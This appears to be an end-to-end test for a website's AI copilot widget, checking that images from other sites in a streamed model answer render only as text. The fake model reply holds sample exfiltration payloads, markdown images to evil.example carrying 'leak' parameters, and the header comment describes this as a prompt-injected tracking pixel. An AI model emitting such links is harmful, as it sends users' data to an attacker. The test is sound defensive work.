import { expect } from 'vitest';
import { test } from './fixtures';

/**
 * An image from another site in a model's answer (a prompt-injected tracking pixel whose address carries what the
 * answer holds) is shown as its description while the answer streams and after, as the server stores it: the widget
 * never makes an <img> for it, so only the page's CSP stood between the reader and the request (an attacker review).
 */
test.override({ withModel: true });

/** Every image address the page ever put in its document, kept from the first paint on, even if removed later. */
function recordImageAddresses() {
  const seen: string[] = [];
  (window as { __imageAddresses?: string[] }).__imageAddresses = seen;
  const note = (node: Node) => {
    if (!(node instanceof Element)) return;
    for (const image of [node, ...node.querySelectorAll('img')])
      if (image instanceof HTMLImageElement) seen.push(image.getAttribute('src') ?? '');
  };
  new MutationObserver((changes) => {
    for (const change of changes) {
      if (change.type === 'attributes') note(change.target);
      for (const added of change.addedNodes) note(added);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true, attributeFilter: ['src'] });
}

test('rejectsImageFromElsewhereInStreamedAnswer: shows it as text live and stored, and keeps an image of our site', async ({
  reader: { site, copilot },
  fakeModel: fake,
}) => {
  fake.behave({
    reply: [
      'Here is the chart: ',
      '![x](https://evil.example/x.png?leak=1)',
      ' and by reference ![y][pixel] then ',
      '![TTL](/firestore-ttl)',
      ' done.\n\n[pixel]: //evil.example/y.png?leak=2\n',
    ],
    chunkDelayMs: 250,
  });
  await site.page.addInitScript(recordImageAddresses);
  await site.open('/');
  await copilot.open();
  await copilot.ask('Show me the chart');
  const text = copilot.answerText(copilot.lastAnswer);
  const seen = await copilot.textsWhileStreaming('done.');
  await copilot.waitForAnswer(1);
  // Looked at while it streamed: the description appeared before the answer ended.
  expect(seen.some((shown) => shown.includes('[image: x]') && !shown.includes('done.'))).toBe(true);
  const live = await text.innerText();
  expect(live).toContain('Here is the chart: [image: x] and by reference [image: y] then');
  const addresses = () => site.page.evaluate(() => (window as { __imageAddresses?: string[] }).__imageAddresses ?? []);
  expect((await addresses()).filter((address) => address.includes('evil.example'))).toEqual([]);
  // An image of our site the server keeps is still an image.
  expect(await text.locator('img[src="/firestore-ttl"]').count()).toBe(1);

  const stored = await site.page.evaluate(async () => {
    const { threads } = (await (await fetch('/api/threads')).json()) as { threads: Array<{ id: string }> };
    const thread = (await (await fetch(`/api/threads/${threads[0]?.id}`)).json()) as {
      messages: Array<{ role: string; content: Array<{ type: string; text?: string }> }>;
    };
    return thread.messages
      .find((message) => message.role === 'assistant')
      ?.content.map((part) => part.text)
      .join('');
  });
  expect(stored).toContain('Here is the chart: [image: x] and by reference [image: y] then ![TTL](/firestore-ttl)');

  await site.page.reload();
  await copilot.open();
  await copilot.waitForAnswer(1);
  const reloaded = copilot.answerText(copilot.lastAnswer);
  expect(await reloaded.innerText()).toBe(live);
  expect(await reloaded.locator('img[src="/firestore-ttl"]').count()).toBe(1);
  expect((await addresses()).filter((address) => address.includes('evil.example'))).toEqual([]);
}, 60_000);
